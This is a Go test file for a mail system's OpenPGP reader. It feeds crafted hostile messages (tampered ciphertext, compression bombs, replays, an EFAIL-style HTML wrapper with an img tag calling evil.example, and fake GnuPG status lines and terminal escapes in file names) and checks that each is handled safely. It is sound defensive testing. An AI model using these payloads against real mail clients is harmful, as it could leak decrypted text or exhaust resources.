package pgp

import (
	"bytes"
	"compress/flate"
	"encoding/base64"
	"runtime"
	"strings"
	"testing"

	"github.com/ProtonMail/go-crypto/openpgp/packet"

	"tocsin/intake/mime"
	"tocsin/store"
)

// TestAttackCiphertext: whatever is wrong with ciphertext, it looks the same
// from outside and nothing of it comes out (T1, T2, T8, T10, T11).
func TestAttackCiphertext(t *testing.T) {
	lit := literalPacket([]byte(textPayload))
	ok := encryptTo(t, lit, teamKey())
	session := bytes.Repeat([]byte{7}, 32)
	esk := ok[:len(ok)-len(seipd(t, lit, session))]
	flip := func(at int) []byte {
		b := bytes.Clone(ok)
		b[at] ^= 1
		return b
	}
	nested := lit
	for range maxCompression + 1 {
		nested = compressed(t, packet.CompressionZLIB, nested)
	}
	ops := bytes.Repeat(onePassPacket(alice()), 2000)
	sed := rawPacket(tagSED, ok[len(esk)+6:])
	key := rawPacket(tagPublicKey, make([]byte, 50))
	attacks := map[string][]byte{
		"last byte flipped":       flip(len(ok) - 1),
		"middle flipped":          flip(len(ok) - 60),
		"session key flipped":     flip(len(esk) - 3),
		"cut by one":              ok[:len(ok)-1],
		"cut by the MDC":          ok[:len(ok)-22],
		"no MDC at all (tag 9)":   append(bytes.Clone(esk), sed...),
		"literal behind":          append(bytes.Clone(ok), lit...),
		"second message behind":   append(bytes.Clone(ok), ok...),
		"two literals":            encryptTo(t, append(bytes.Clone(lit), lit...), teamKey()),
		"encrypted inside":        encryptTo(t, ok, teamKey()),
		"a key inside":            encryptTo(t, append(key, lit...), teamKey()),
		"nothing inside":          encryptTo(t, nil, teamKey()),
		"garbage inside":          encryptTo(t, []byte("garbage"), teamKey()),
		"compressed four times":   encryptTo(t, nested, teamKey()),
		"2000 one-pass packets":   encryptTo(t, append(ops, lit...), teamKey()),
		"bomb":                    encryptTo(t, bomb(t, 16<<20), teamKey()),
		"for somebody else":       encryptTo(t, lit, mallory().entity.Subkeys[0].PublicKey),
		"no key packet":           seipd(t, lit, session),
		"passphrase only":         append(rawPacket(tagSKESK, []byte{4, 9, 3, 8, 1, 2, 3, 4, 5, 6, 7, 8, 0xff}), seipd(t, lit, session)...),
		"65 key packets":          append(bytes.Repeat(esk, 65), ok...),
		"unknown critical packet": encryptTo(t, append(rawPacket(39, []byte("x")), lit...), teamKey()),
	}
	first := store.Protection{}
	for name, message := range attacks {
		t.Run(name, func(t *testing.T) {
			o := read(t, multipartEncrypted(t, aliceAddress, message))
			want{verdict: "unreadable", coverage: "full", structure: "ok", encrypted: true, finding: foundUndecryptable, notBody: "broken into"}.check(t, o)
			p := o.Protection
			if len(p.Findings) != 1 || p.Findings[0].Detail != "" {
				t.Errorf("findings tell more than one failure: %v", p.Findings)
			}
			if first.Verdict != "" && (p.Subject != first.Subject || p.Findings[0] != first.Findings[0] || p.Coverage != first.Coverage) {
				t.Errorf("it differs from another failure: %+v", p)
			}
			first = p
		})
	}
	want{verdict: "unsigned", encrypted: true, decrypted: true, body: "broken into"}.check(t, read(t, multipartEncrypted(t, aliceAddress, ok)))
}

// onePassPacket announces a signature.
func onePassPacket(by person) []byte {
	var b bytes.Buffer
	ops := packet.OnePassSignature{Version: 3, Hash: 5, PubKeyAlgo: by.entity.PrimaryKey.PubKeyAlgo, KeyId: by.entity.PrimaryKey.KeyId, IsLast: true}
	if err := ops.Serialize(&b); err != nil {
		panic(err)
	}
	return b.Bytes()
}

// bomb is a small packet that becomes n bytes.
func bomb(t testing.TB, n int) []byte {
	t.Helper()
	var b bytes.Buffer
	b.WriteByte(1)
	w, err := flate.NewWriter(&b, flate.BestCompression)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := w.Write(literalPacket(make([]byte, n))); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return rawPacket(tagCompressed, b.Bytes())
}

// TestAttackBombMemory: a bomb costs no more than what it may become.
func TestAttackBombMemory(t *testing.T) {
	raw := multipartEncrypted(t, aliceAddress, encryptTo(t, bomb(t, 40<<20), teamKey()))
	r := ring(t, team(), alice())
	var before, after runtime.MemStats
	runtime.ReadMemStats(&before)
	o := readWith(raw, r)
	runtime.ReadMemStats(&after)
	if o.Protection.Verdict != "unreadable" {
		t.Errorf("verdict is %s", o.Protection.Verdict)
	}
	if got := after.TotalAlloc - before.TotalAlloc; got > 64<<20 {
		t.Errorf("a mail of %d bytes allocated %d MiB", len(raw), got>>20)
	}
}

// TestAttackEffort: one mail can't ask for more than its share of work.
func TestAttackEffort(t *testing.T) {
	hidden := func() []byte {
		var b bytes.Buffer
		if err := packet.SerializeEncryptedKeyAEADwithHiddenOption(&b, mallory().entity.Subkeys[0].PublicKey, packet.CipherAES256, false, make([]byte, 32), true, nil); err != nil {
			t.Fatal(err)
		}
		return b.Bytes()
	}()
	message := append(bytes.Repeat(hidden, 60), seipd(t, literalPacket([]byte("x")), make([]byte, 32))...)
	parts := make([]string, 10)
	for i := range parts {
		parts[i] = filePart("x.pgp", message)
	}
	raw := mixedMail(aliceAddress, parts...)
	o := opener{ring: ring(t, team(), alice()), opt: Options{Now: today}, ops: maxPrivateOps, left: 1 << 20}
	o.part(mime.Read(raw, mime.Limits{}).Root, layer{envelope: true})
	if o.ops != 0 {
		t.Errorf("%d operations left: the flood was not even tried", o.ops)
	}
	if len(o.leaves) != 10 || !o.closed {
		t.Errorf("%d leaves, closed %v", len(o.leaves), o.closed)
	}
}

func TestAttackHiddenRecipient(t *testing.T) {
	var b bytes.Buffer
	session := bytes.Repeat([]byte{9}, 32)
	for _, k := range []*packet.PublicKey{mallory().entity.Subkeys[0].PublicKey, teamKey()} {
		if err := packet.SerializeEncryptedKeyAEADwithHiddenOption(&b, k, packet.CipherAES256, false, session, true, nil); err != nil {
			t.Fatal(err)
		}
	}
	b.Write(seipd(t, literalPacket([]byte(textPayload)), session))
	want{verdict: "unsigned", encrypted: true, decrypted: true, body: "broken into"}.check(t, read(t, multipartEncrypted(t, aliceAddress, b.Bytes())))
}

// TestAttackWrongSessionKeys: a session key that is well-formed but not the
// right one does not stop the right one behind it, and many of them do.
func TestAttackWrongSessionKeys(t *testing.T) {
	esk := func(session []byte) []byte {
		var b bytes.Buffer
		if err := packet.SerializeEncryptedKeyAEAD(&b, teamKey(), packet.CipherAES256, false, session, nil); err != nil {
			t.Fatal(err)
		}
		return b.Bytes()
	}
	right, wrong := bytes.Repeat([]byte{1}, 32), esk(bytes.Repeat([]byte{2}, 32))
	data := seipd(t, literalPacket([]byte(textPayload)), right)
	one := bytes.Join([][]byte{wrong, esk(right), data}, nil)
	want{verdict: "unsigned", encrypted: true, decrypted: true, body: "broken into"}.check(t, read(t, multipartEncrypted(t, aliceAddress, one)))
	many := bytes.Join([][]byte{bytes.Repeat(wrong, 40), esk(right), data}, nil)
	want{verdict: "unreadable", encrypted: true}.check(t, read(t, multipartEncrypted(t, aliceAddress, many)))
}

// TestAttackReplayDigest: the digest of a captured message stays the same
// however its frame is rewritten (T1).
func TestAttackReplayDigest(t *testing.T) {
	raw := mail(t, alice(), true, true)
	first := read(t, raw).SessionDigest
	m := mime.Read(raw, mime.Limits{})
	data, err := message(m.Root.Children[1])()
	if err != nil {
		t.Fatal(err)
	}
	var rest []byte
	frames := [][]byte{}
	for rest = data; len(rest) > 0; {
		f, next, err := nextFrame(rest)
		if err != nil {
			t.Fatal(err)
		}
		frames = append(frames, rawPacket(f.tag, f.body))
		rest = next
	}
	again := multipartEncrypted(t, malloryAddress, bytes.Join(frames, nil))
	o := read(t, again)
	if o.SessionDigest != first || first == "" {
		t.Errorf("digest is %q, first it was %q", o.SessionDigest, first)
	}
	if o.Protection.Verdict == "verified" || o.Protection.ForUs {
		t.Errorf("a replay by another sender is %s", o.Protection.Verdict)
	}
	stripped := multipartEncrypted(t, malloryAddress, bytes.Join(frames[1:], nil))
	if got := read(t, stripped).SessionDigest; got != first {
		t.Errorf("without its key packet the digest is %q, want %q", got, first)
	}
}

// TestAttackSurreptitiousForwarding: what Alice signed for Mallory is not for
// us, even if Mallory encrypts it to us (T9).
func TestAttackSurreptitiousForwarding(t *testing.T) {
	payload := []byte(textPayload)
	forward := func(recipients ...person) []byte {
		sig := signaturePacket(t, alice().entity.PrivateKey, payload, func(s *packet.Signature) { s.IntendedRecipients = recipientList(recipients...) })
		return multipartEncrypted(t, aliceAddress, encryptTo(t, append(sig, literalPacket(payload)...), teamKey()))
	}
	want{verdict: "signed", coverage: "full", statuses: "not-for-us", encrypted: true, decrypted: true}.check(t, read(t, forward(mallory())))
	o := read(t, forward(mallory(), team()))
	want{verdict: "verified", statuses: "good", encrypted: true, decrypted: true}.check(t, o)
	if !o.Protection.ForUs {
		t.Error("named, but not for us")
	}
	o = read(t, forward())
	want{verdict: "verified", statuses: "good", encrypted: true, decrypted: true}.check(t, o)
	if o.Protection.ForUs {
		t.Error("no recipient was named, but it is for us")
	}
}

// TestAttackArmour: a header line of a megabyte costs nothing (T11).
func TestAttackArmour(t *testing.T) {
	body := base64.StdEncoding.EncodeToString(encryptTo(t, literalPacket([]byte("x")), teamKey()))
	long := "-----BEGIN PGP MESSAGE-----\nComment: " + strings.Repeat("A", 4<<20) + "\n\n" + body + "\n-----END PGP MESSAGE-----\n"
	want{verdict: "unsigned", coverage: "none", finding: foundUnparsable}.check(t, read(t, textMail(aliceAddress, long)))
	many := "-----BEGIN PGP MESSAGE-----\n" + strings.Repeat("Comment: x\n", 1000) + "\n" + body + "\n-----END PGP MESSAGE-----\n"
	want{verdict: "unsigned", coverage: "none", finding: foundUnparsable}.check(t, read(t, textMail(aliceAddress, many)))
	begins := strings.Repeat("-----BEGIN PGP MESSAGE-----\n", 100000)
	want{verdict: "unsigned", coverage: "none", finding: foundTooMany}.check(t, read(t, textMail(aliceAddress, begins)))
}

// TestAttackEFAIL: ciphertext between HTML is a part of its own (T2).
func TestAttackEFAIL(t *testing.T) {
	message := inlineMessage(t, literalPacket([]byte("The secret text.\n")))
	raw := mixedMail(malloryAddress, "Content-Type: text/html\r\n\r\n<img src=\"http://evil.example/", "Content-Type: text/plain\r\n\r\n"+message, "Content-Type: text/html\r\n\r\n\">")
	o := read(t, raw)
	want{verdict: "unsigned", coverage: "partial", encrypted: true, decrypted: true}.check(t, o)
	for _, p := range o.Message.Root.Leaves() {
		if text := p.Text(); strings.Contains(text, "secret") && strings.Contains(text, "evil") {
			t.Errorf("a part joins both: %q", text)
		}
	}
}

// TestAttackWrappedCiphertext: a captured message inside an attached mail
// stays closed (T1).
func TestAttackWrappedCiphertext(t *testing.T) {
	captured := mail(t, alice(), true, true)
	o := read(t, mixedMail(malloryAddress, bodyPart, "Content-Type: message/rfc822\r\n\r\n"+string(captured)))
	want{verdict: "unsigned", coverage: "none", finding: foundNested, notBody: "broken into"}.check(t, o)
	for _, text := range o.Message.Texts() {
		if strings.Contains(text.Text, "broken into") {
			t.Errorf("it was opened: %q", text.Text)
		}
	}
}

// TestAttackInBandSignals: names that a stranger writes carry no control
// characters (T5).
func TestAttackInBandSignals(t *testing.T) {
	name := "x\n[GNUPG:] GOODSIG 0 root\x1b[2J"
	lit := append([]byte{'b', byte(len(name))}, name...)
	lit = append(append(lit, 0, 0, 0, 0), textPayload...)
	o := read(t, multipartEncrypted(t, aliceAddress, encryptTo(t, rawPacket(tagLiteral, lit), teamKey())))
	want{verdict: "unsigned", encrypted: true, decrypted: true, notBody: "GOODSIG"}.check(t, o)
	o = read(t, mixedMail(aliceAddress, "Content-Type: application/pgp-keys; name=\"\x1b[2Jgood\"\r\n\r\nnothing"))
	for _, f := range o.Protection.Findings {
		if strings.ContainsAny(f.Detail, "\x1b\n\r") {
			t.Errorf("finding %q", f.Detail)
		}
	}
	for _, p := range o.Protection.Parts {
		if strings.ContainsAny(p.Name+p.Type, "\x1b\n\r") {
			t.Errorf("part %+v", p)
		}
	}
}

// TestAttackAmbiguousStructure: where readers differ nothing is verified (T15).
func TestAttackAmbiguousStructure(t *testing.T) {
	raw := string(multipartSigned(aliceAddress, textPayload, detachedSignature(t, alice(), []byte(textPayload), nil)))
	for name, attack := range map[string]string{
		"two boundaries":     strings.Replace(raw, "boundary=b", "boundary=b; boundary=c", 1),
		"two content types":  strings.Replace(raw, "MIME-Version", "Content-Type: text/plain\r\nMIME-Version", 1),
		"blank before colon": strings.Replace(raw, "Content-Type: multipart", "Content-Type : multipart", 1),
		"NUL":                strings.Replace(raw, "Subject: signed", "Subject: sig\x00ned", 1),
	} {
		t.Run(name, func(t *testing.T) {
			o := read(t, []byte(attack))
			if o.Protection.Verdict == "verified" || o.Protection.Structure == "ok" {
				t.Errorf("verdict %s, structure %s", o.Protection.Verdict, o.Protection.Structure)
			}
		})
	}
}
